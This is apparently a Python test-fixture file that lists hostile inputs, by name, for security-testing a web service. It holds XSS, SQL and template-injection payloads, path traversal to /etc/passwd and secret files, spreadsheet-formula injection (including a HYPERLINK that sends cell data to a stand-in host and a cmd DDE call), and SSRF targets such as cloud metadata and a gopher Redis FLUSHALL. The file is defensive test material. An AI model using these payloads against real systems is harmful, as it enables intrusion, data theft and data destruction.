"""What somebody hostile sends, by name. tests/service/test_hostile_inputs.py sends it everywhere it may go."""

MARK = "netra_hostile"

TEXTS = {
    "a script": f"<script>{MARK}()</script>",
    "a script that closes a script": f"</script><script>{MARK}()</script>",
    "an image that fails": f"<img src=x onerror={MARK}()>",
    "a drawing that acts": f"<svg/onload={MARK}()>",
    "a way out of an attribute": f'"><b onmouseover="{MARK}()" autofocus>',
    "a way out of a single-quoted attribute": f"' onfocus='{MARK}()' autofocus x='",
    "a way out of a text field": f"</textarea></title></style><script>{MARK}()</script>",
    "a way out of a comment": f"--><script>{MARK}()</script><!--",
    "a link that acts": f'<a href="javascript:{MARK}()">buka</a>',
    "a link with a tab in it": f'<a href="java\tscript:{MARK}()">buka</a>',
    "a page in a frame": f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    "a page that leads away": '<meta http-equiv="refresh" content="0;url=https://jahat.test/"><base href="https://jahat.test/">',
    "a style that loads": '<style>@import "https://jahat.test/x.css";</style><link rel=stylesheet href=//jahat.test/y.css>',
    "a form that sends elsewhere": '<form action="https://jahat.test/"><button formaction="https://jahat.test/">Masuk</button>',
    "a template that computes": "{{ 7 * 7191 }} {% for x in ().__class__.__mro__ %}{% endfor %} ${7*7191} #{7*7191}",
    "a format string": "{0.__class__.__init__.__globals__} {actor} %s%n%(name)s {}",
    "letters that look like tags": f"＜script＞{MARK}()＜/script＞ ‹script›",
    "entities": f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;script&#62; &#x3c;img onerror&#x3d;{MARK}()&#x3e;",
    "marks that turn the text": "surat \u202egnp.exe\u2066\u2067 nama\u200f\u200e",
    "letters nobody sees": "cam\u200bat\ufeff\u2060\u00ad\U000e0041 lurah",
    "letters that pile up": "camat" + "\u0336\u0489\u0488" * 60,
    "signs that steer a terminal": "\x1b]0;judul\x07\x1b[2J\x9b31m\x08\x7f",
    "an apostrophe for SQL": "'; DROP TABLE flags; -- ' OR '1'='1",
    "a pattern for LIKE and for searches": '%_\\%\\_ " NEAR(a b) AND * NOT ^ : (',
    "a formula": '=HYPERLINK("https://jahat.test/?x="&A1;"buka")',
    "a path": "../../../../etc/passwd\\..\\..",
    "a header": "nama\r\nSet-Cookie: netra=jahat\r\n\r\n<html>",
}
"""Stored as titles, texts, authors, outlets, names, notes, filters, cases and tips, past every check of a form."""

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "after a tab": "\t=1+1",
    "after a carriage return": "\r=1+1",
    "after a line feed": "\n=1+1",
    "after blanks": "   =1+1",
    "after a hard blank": "\u00a0=1+1",
    "after a sign that is not printed": "\x00\x01=1+1",
    "wide equals": "＝1+1",
    "wide at": "＠SUM(A1)",
    "another program": "=cmd|' /C calc'!A0",
    "a cell that ends in quotes": '"=1+1"',
    "a new row": 'a"\n"=1+1',
    "a new column": "a;=1+1",
}

FILES = {
    "dots": "/static/../app.py",
    "coded dots": "/static/%2e%2e/app.py",
    "coded slash": "/static/..%2fapp.py",
    "twice coded": "/static/%252e%252e%252fapp.py",
    "more dots": "/static/....//....//app.py",
    "backslashes": "/static/..%5c..%5capp.py",
    "another root": "/static//etc/passwd",
    "another mount": "/static/swagger/../../../../../../etc/passwd",
    "a NUL": "/static/netra.css%00.html",
    "broken UTF-8": "/static/%ff%c0%ae%c0%ae/app.py",
    "the folder itself": "/static/",
    "a copy by path": "/konten/1/salinan/..%2f..%2f..%2fetc%2fpasswd/isi",
    "a source by path": "/sumber/..%2f..%2fmasuk",
    "an export by path": "/ekspor/..%2f..%2fetc%2fpasswd",
    "settings": "/.env",
    "the key": "/secret.key",
    "the database": "/netra.sqlite3",
}

DESTINATIONS = {
    "another host": "https://jahat.test/",
    "the same scheme": "//jahat.test/",
    "three slashes": "///jahat.test/",
    "a backslash": "/\\jahat.test/",
    "backslashes": "\\\\jahat.test/",
    "a tab": "/\t/jahat.test/",
    "a line feed": "/\n/jahat.test/",
    "a blank before": " //jahat.test/",
    "a script": "javascript:alert(1)",
    "a document": "data:text/html,<script>alert(1)</script>",
    "a host as a name": "@jahat.test/",
    "a dot as host": ".jahat.test/",
    "a turned text": "/\u202e//jahat.test",
    "a header": "/antrean\r\nSet-Cookie: netra=jahat",
}
"""Where a form is asked to lead back to."""

CURSORS = {
    "no number": "abc",
    "not a number": "nan_1",
    "no end": "inf_1_0",
    "too large": "0.5_99999999999999999999",
    "a minus too large": f"0.5_-{2**63}",
    "SQL": "0.5_1_0' OR 1=1",
    "other digits": "٠.٥_١",
    "under scores": "1__2___3",
    "very long": "0." + "9" * 70 + "_1",
    "an exponent": "1e400_1",
}

NUMBERS = {
    "nothing": "0",
    "a minus": "-1",
    "beyond the table": str(2**63),
    "beyond all": "9" * 400,
    "a fraction": "1.5",
    "an exponent": "1e3",
    "hexadecimal": "0x1",
    "other digits": "１",
    "a word": "satu",
    "a list": "1,2",
    "SQL": "1%20OR%201=1",
    "a NUL": "1%00",
}
"""As the number of a flag, a case, an item."""

BODIES = {
    "nothing": b"",
    "no JSON": b"{",
    "brackets without end": b"[" * 100_000,
    "objects without end": b'{"outcome":' * 20_000,
    "a list": b"[]",
    "a text": b'"duplikat"',
    "not a number": b'{"outcome": NaN}',
    "a number without end": b'{"outcome": ' + b"9" * 5_000 + b"}",
    "twice the same field": b'{"outcome": "duplikat", "outcome": "indikasi_pelanggaran"}',
    "a field of ours": b'{"outcome": "duplikat", "user_id": 1, "is_final": true}',
    "a prototype": b'{"outcome": "duplikat", "__proto__": {"is_final": true}, "constructor": {}}',
    "no UTF-8": b'{"outcome": "\xff\xfe"}',
    "half a letter": b'{"outcome": "duplikat", "note": "\\ud800"}',
    "a NUL": b'{"outcome": "duplikat", "note": "a\\u0000b"}',
    "UTF-16": '{"outcome": "duplikat"}'.encode("utf-16"),
    "a byte order mark": b'\xef\xbb\xbf{"outcome": "duplikat"}',
    "a note too long": b'{"outcome": "duplikat", "note": "' + b"a" * 6_000 + b'"}',
}
"""As the assessment of a machine."""

ORIGINS = {
    "another site": {"sec-fetch-site": "cross-site"},
    "a site beside ours": {"sec-fetch-site": "same-site"},
    "a word nobody knows": {"sec-fetch-site": "SAME-ORIGIN, cross-site"},
    "an origin": {"origin": "https://jahat.test"},
    "no origin": {"origin": "null"},
    "ours as a beginning": {"origin": "http://testserver.jahat.test"},
    "ours as a name": {"origin": "http://testserver@jahat.test"},
    "ours by another scheme": {"origin": "https://testserver"},
    "ours with a port": {"origin": "http://testserver:8001"},
}

COOKIES = {
    "nothing": "",
    "a guess": "a" * 43,
    "SQL": "' OR '1'='1",
    "a hash": "0" * 64,
    "very long": "x" * 8_000,
    "bytes": "\xff\xfe",
    "two at once": "a; netra=b",
}

ADDRESSES = {
    "this machine": "http://127.0.0.1/",
    "this machine by name": "http://localhost:8000/",
    "this machine, short": "http://127.1/",
    "this machine as a number": "http://2130706433/",
    "this machine in hexadecimal": "http://0x7f000001/",
    "this machine in octal": "http://0177.0.0.1/",
    "any of this machine": "http://0.0.0.0/",
    "this machine in IPv6": "http://[::1]/",
    "IPv4 in IPv6": "http://[::ffff:127.0.0.1]/",
    "the cloud's secrets": "http://169.254.169.254/latest/meta-data/",
    "a private network": "http://10.0.0.1/",
    "another private network": "http://192.168.1.1/",
    "shared space": "http://100.64.0.1/",
    "a link-local neighbour": "http://[fe80::1]/",
    "a unique local one": "http://[fd00::1]/",
    "translated to IPv4": "http://[64:ff9b::7f00:1]/",
    "a file": "file:///etc/passwd",
    "another protocol": "gopher://127.0.0.1:6379/_FLUSHALL",
    "a script": "javascript:alert(1)",
    "a name and a password": "https://rina:rahasia@contoh.test/",
    "a host after a name": "https://contoh.test@127.0.0.1/",
    "no host": "https:///jalan",
    "a port of nothing": "https://contoh.test:0/",
}
"""Where the house is asked to call."""
